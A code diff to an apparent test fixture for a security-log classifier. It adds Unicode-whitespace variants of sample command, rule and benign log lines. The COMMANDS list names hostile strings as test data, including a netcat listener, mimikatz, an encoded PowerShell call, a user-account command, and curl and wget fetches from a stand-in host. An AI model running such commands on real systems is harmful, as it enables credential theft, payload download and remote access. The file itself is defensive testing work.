@@ -18,7 +18,7 @@ PROTOCOLS = ("6", "17", "1", "47")
 COMMANDS = (
     "nc -l 9001", "powershell -ec QQ", "mimikatz", "curl http://a.example/x.exe", "base64 -d p",
     "C:\\temp\\a.exe", "reg add HKLM", "net user eve", "chmod +x a", "whoami -a",
-    "wget http://a.example/i", "notepad a.txt",
+    "wget http://a.example/i", "notepad a.txt", "né net\u00a0user eve", "né chmod\u2003+x a",
 )
 RULE_LINES = (
     "nmap aggressive scan on port range detected",
@@ -41,12 +41,14 @@ RULE_LINES = (
     "Vulnerability CVE-2024-12345 Severity: Critical",
     "Vulnerability CVE-2023-4321 Risk: Medium",
     "Misconfiguration: Default Password in use",
+    "né failed\u00a0login for amy from\u00a045.67.3.5",
 )
 BENIGN_LINES = (
     "dns query db.internal", "dns query microsoft.com", "dns response NXDOMAIN",
     "arp who-has 192.168.1.1", "arp reply 10.0.0.1", "dhcp discover", "dhcp offer",
     "tcp syn 10.0.0.7", "tcp syn-ack 10.0.0.7", "tcp syn 45.67.1.1", "http GET /index 10.0.0.7",
     "https POST /api 10.0.0.7", "ntp client", "smb negotiate 10.0.0.7",
+    "né http GET\u00a0/index 10.0.0.7", "né https POST\u2003/api 10.0.0.7",
 )
 OTHER_LINES = (
     "probe of host port 22", "authentication failure for guest",
